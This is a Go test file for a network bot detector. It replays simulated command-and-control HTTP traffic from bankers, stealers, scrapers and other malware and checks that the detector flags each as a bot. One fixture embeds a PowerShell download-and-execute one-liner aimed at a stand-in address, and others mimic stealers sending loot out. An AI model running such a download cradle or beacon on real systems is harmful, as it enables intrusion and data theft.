package behaviour

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"firetower/internal/attack"
)

const (
	noPage   = "HTTP/1.1 404 Not Found\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nno"
	binary2k = "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/octet-stream\r\nContent-Length: 900\r\n\r\n"
	trident  = "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\r\n"
	msie7    = "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)\r\n"
	form     = "Content-Type: application/x-www-form-urlencoded\r\n"
)

// botWeb are further bots that speak HTTP, after what analyses say of them.
var botWeb = map[string]func(w *wire){
	"banker: settings, then posts": func(w *wire) {
		w.ask(1, 0, 7, 80, "GET /cfg/config.bin HTTP/1.1\r\nAccept: */*\r\nConnection: Close\r\n"+msie7+"Host: abcdef.com\r\nCache-Control: no-cache\r\n\r\n", binary2k+noise(1, 900))
		w.ask(3, 600_000, 7, 80, "POST /cfg/gate.php HTTP/1.1\r\nAccept: */*\r\n"+msie7+"Host: abcdef.com\r\nContent-Length: 4\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\nabcd", fine)
	},
	"stealer: an archive comes, another goes": func(w *wire) {
		w.ask(1, 0, 7, 80, "GET /update.zip HTTP/1.1\r\nAccept: */*\r\nHost: 198.51.100.7\r\nConnection: Keep-Alive\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Type: application/zip\r\nContent-Length: 180000\r\n\r\nPK\x03\x04"+strings.Repeat("\x00", 22)+"\x0b\x00\x00\x00freebl3.dll"+noise(1, 800))
		w.tcp(inner(5), outside(7), 80, 9_000, up("POST / HTTP/1.1\r\nAccept: */*\r\nHost: 198.51.100.7\r\nContent-Type: multipart/form-data; boundary=----0KF\r\nContent-Length: 60323\r\n\r\n"), up(noise(3, 60_323)), down(fine))
	},
	"intruder's page, asked for every five minutes": func(w *wire) {
		w.ask(9, 300_000, 7, 80, "GET /products/index.htm HTTP/1.1\r\nUser-Agent: Windows+NT+5.1\r\nHost: www.abcdef.com\r\n\r\n", binary2k+noise(1, 900))
	},
	"banker: one script for all": func(w *wire) {
		w.ask(4, 120_000, 7, 80, "POST /x/file.php HTTP/1.1\r\nAccept: */*\r\n"+msie7+"Host: abcdef.com\r\nContent-Length: 4\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n"+noise(3, 4), binary2k+noise(1, 900))
	},
	"spammer: the root of many sites": func(w *wire) {
		for i := range 8 {
			w.ask(1, 0, byte(7+i), 80, fmt.Sprintf("POST / HTTP/1.1\r\nAccept: */*\r\nAccept-Language: en-us\r\nContent-Type: application/octet-stream\r\nContent-Length: 4\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)\r\nHost: site%d.com\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\nabcd", i), fine)
		}
	},
	"file infector: pictures with a number": func(w *wire) {
		for i := range 4 {
			w.ask(1, 0, byte(7+i), 80, fmt.Sprintf("GET /images/logos.gif?%x=%d HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.2.3)\r\nHost: site%d.com\r\nCache-Control: no-cache\r\n\r\n", 0x18bf0+i*371, 101360+i, i), noPage)
		}
	},
	"stealer's module posts its loot": func(w *wire) {
		w.ask(3, 20_000, 7, 8082, "POST /mor83/PC-7_W617601.7DA3F1C0B4/81/ HTTP/1.1\r\nAccept: */*\r\nUser-Agent: dpost\r\nHost: 198.51.100.7:8082\r\nConnection: close\r\nContent-Type: multipart/form-data; boundary=KMOGEEQTLQTCQMYE\r\nContent-Length: 4\r\n\r\nabcd", fine)
	},
	"mail bot: a cookie to each of several addresses": func(w *wire) {
		for i := range 4 {
			w.ask(1, 0, byte(7+i), []uint16{443, 8080, 7080, 80}[i], fmt.Sprintf("GET / HTTP/1.1\r\nCookie: %d=%s==\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0)\r\nHost: 198.51.100.%d\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n", 8000+i*331, strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo", 8), 7+i), binary2k+noise(1, 600))
		}
	},
	"banker: pictures at long paths": func(w *wire) {
		for i := range 4 {
			w.ask(1, 0, 7, 80, fmt.Sprintf("GET /images/%s/%s/%s.avi HTTP/1.1\r\nAccept: text/html, application/xhtml+xml, */*\r\n"+trident+"Host: qwrtzplk%d.club\r\nConnection: Keep-Alive\r\n\r\n", noiseText(i, 40), noiseText(i+9, 60), noiseText(i+20, 12), i%2), binary2k+noise(1, 600))
		}
	},
	"stealer: one binary post to an address": func(w *wire) {
		w.ask(1, 0, 7, 80, "POST /p/index.php HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0b; Windows NT 5.1)\r\nHost: 198.51.100.7\r\nContent-Length: 103\r\nCache-Control: no-cache\r\n\r\n"+noise(1, 103), binary2k+noise(2, 900))
	},
	"stealer: libraries and an archive, address": func(w *wire) {
		for _, lib := range []string{"freebl3", "mozglue", "msvcp140", "nss3", "softokn3", "vcruntime140"} {
			w.ask(1, 0, 7, 80, "GET /"+lib+".dll HTTP/1.1\r\nHost: 198.51.100.7\r\nConnection: Keep-Alive\r\n\r\n", binary2k+"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"+noise(1, 800))
		}
		w.ask(1, 0, 7, 80, "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=----7\r\nHost: 198.51.100.7\r\nContent-Length: 4\r\nConnection: Keep-Alive\r\n\r\nabcd", fine)
	},
	"bank robber: HTTP/1.0, long text": func(w *wire) {
		w.ask(3, 1_200_000, 7, 80, "POST /"+noiseText(3, 48)+" HTTP/1.0\r\nHost: wtdkqrzlp.com\r\nContent-Length: 4\r\nConnection: close\r\n\r\nabcd", fine)
	},
	"bot: describes the machine to a gate": func(w *wire) {
		w.ask(2, 60_000, 7, 80, "GET /gate.php?hwid=8A2B1C&pc=ANN-PC&localip=10.0.0.5&winver=Win7 HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)\r\nHost: abcdef.com\r\nCache-Control: no-cache\r\n\r\n", fine)
	},
	"till's scraper": func(w *wire) {
		w.ask(3, 300_000, 7, 80, "POST /adobe/version_check.php HTTP/1.1\r\nAccept: application/octet-stream\r\nContent-Type: application/octet-stream\r\nConnection: Close\r\nUser-Agent: Alina v5.6\r\nHost: 198.51.100.7\r\nContent-Length: 4\r\n\r\nabcd", "HTTP/1.1 666 OK\r\nContent-Length: 0\r\n\r\n")
	},
	"till's scraper, parameters in base64": func(w *wire) {
		w.ask(3, 300_000, 7, 80, "POST /w19218317418621031041543/gateway.php HTTP/1.1\r\n"+form+"User-Agent: Mozilla/4.0(compatible; MSIE 7.0b; Windows NT 6.0)\r\nHost: abcdef.com\r\nContent-Length: 60\r\nCache-Control: no-cache\r\n\r\npage=QUJD&ump=QUJD&unm=QUJD&cnm=QUJD&query=QUJD&spec=QUJD&var", fine)
	},
	"script worm: the machine for a name": func(w *wire) {
		w.ask(10, 5_000, 7, 1604, "POST /is-ready HTTP/1.1\r\nAccept: */*\r\nAccept-Language: en-us\r\nUser-Agent: 8A2B<|>ANN-PC<|>ann<|>Microsoft Windows 7<|>plus<|>nan-av<|>false\r\nHost: abcdef.ddns.net:1604\r\nContent-Length: 0\r\nConnection: Keep-Alive\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\n")
	},
	"spy: reports by a path of CGI": func(w *wire) {
		w.ask(3, 60_000, 7, 80, "POST /cgl-bin/Owpq4.cgi HTTP/1.1\r\nAccept: */*\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Win32)\r\nHost: abcdef.com\r\nContent-Length: 4\r\nCache-Control: no-cache\r\n\r\nabcd", fine)
	},
	"spy: headers of its own": func(w *wire) {
		w.ask(4, 30_000, 7, 80, "POST /update?id=000f5780 HTTP/1.1\r\nAccept: */*\r\nX-Session: 0\r\nX-Status: 0\r\nX-Size: 61456\r\nX-Sn: 1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1;SV1;)\r\nHost: abcdef.com\r\nContent-Length: 0\r\nConnection: Keep-Alive\r\nCache-Control: no-cache\r\n\r\n", fine)
	},
	"framework of today: files that are none, names of a session": func(w *wire) {
		r, at := rand.New(rand.NewPCG(4, 4)), int64(0)
		for i := range 20 {
			path := []string{"/js/bootstrap.min.js", "/assets/jquery.js", "/dist/app.js", "/static/underscore.min.js", "/javascripts/route.js"}[r.IntN(5)]
			w.tcp(inner(5), outside(7), 80, at, up(fmt.Sprintf("GET %s?x=%d&_=%s HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0 Safari/537.36\r\nCookie: PHPSESSID=8f2a77c1\r\nAccept-Encoding: gzip\r\n\r\n", path, i*7919, noiseText(i, 12))), down("HTTP/1.1 204 No Content\r\nServer: Apache\r\n\r\n"))
			at += 5_000 + r.Int64N(3_000)
		}
	},
	"downloader in a script": func(w *wire) {
		w.tcp(inner(5), outside(7), 80, 0, up("GET /a.ps1 HTTP/1.1\r\nHost: 198.51.100.7\r\nConnection: Keep-Alive\r\n\r\n"),
			down("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 90\r\n\r\n$c=New-Object System.Net.WebClient;IEX($c.DownloadString('http://198.51.100.7/b'))"))
	},
	"bot in Go, name of the library": func(w *wire) {
		w.ask(20, 10_000, 7, 8000, "POST /api/agents/7f3a/poll HTTP/1.1\r\nHost: 198.51.100.7:8000\r\nUser-Agent: Go-http-client/1.1\r\nContent-Length: 15\r\nContent-Type: application/json\r\n\r\n{\"id\":\"7f3a91\"}", fine)
	},
	"kept connection, polled": func(w *wire) {
		var lines []line
		r := rand.New(rand.NewPCG(4, 4))
		for range 20 {
			lines = append(lines, up("GET /pull HTTP/1.1\r\nHost: 198.51.100.7:8888\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n").after(4_000+r.Int64N(2_000)), down(fine))
		}
		w.tcp(inner(5), outside(7), 8888, 0, lines...)
	},
	"sinkholed: the gate is gone": func(w *wire) {
		w.ask(6, 60_000, 7, 80, "POST /panel/gate.php HTTP/1.1\r\nHost: vkqzxwtp.com\r\n"+msie7+form+"Content-Length: 4\r\nConnection: Close\r\n\r\nabcd", noPage)
	},
	"peer to peer over the web": func(w *wire) {
		for i := range 12 {
			w.ask(1, 0, byte(7+i), 80, fmt.Sprintf("GET /%s.htm HTTP/1.1\r\nHost: 198.51.100.%d\r\nContent-Length: 164\r\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; rv:10.0) Gecko/20100101 Firefox/10.0\r\n\r\n%s", []string{"online", "main", "start", "install", "login", "setup"}[i%6], 7+i, noise(int64(i), 164)), "HTTP/1.1 200 \r\nServer: Apache\r\nContent-Length: 100\r\nContent-Type: \r\n\r\n"+noise(1, 100))
		}
	},
	"clicks on advertisements": func(w *wire) {
		for i := range 30 {
			w.ask(1, 0, byte(7+i%5), 80, fmt.Sprintf("GET /click?aff=77&q=%s HTTP/1.0\r\nHost: ads%d.biz\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0)\r\nReferer: http://find.info/\r\n\r\n", noiseText(i, 20), i%5), fine)
		}
	},
}

// noiseText is n random letters and digits, the same in every run.
func noiseText(seed, n int) string { return label(rand.New(rand.NewPCG(uint64(seed), 3)), n) }

func TestBotWeb(t *testing.T) {
	for name, play := range botWeb {
		t.Run(name, func(t *testing.T) {
			var w wire
			play(&w)
			expect(t, w.findings(newBot(DefaultBotConfig())), attack.Bot, inner(5), "contacted")
		})
	}
}

// TestOrdersTakeTime: what a program sends faster than orders can be had is a flood, or
// the probes of a scanner.
func TestOrdersTakeTime(t *testing.T) {
	for _, c := range []struct {
		name  string
		every int64 // ms
		class attack.Class
	}{
		{"a bot's reports", 30_000, attack.Bot},
		{"a stealer's, in a hurry", 100, attack.Bot},
		{"a flood of the same", 2, attack.Benign},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := &wire{}
			w.ask(12, c.every, 7, 80, "POST / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\nHost: shop.example\r\nContent-Length: 4\r\n\r\nabcd", fine)
			expect(t, w.findings(newBot(DefaultBotConfig())), c.class, inner(5), "")
		})
	}
}
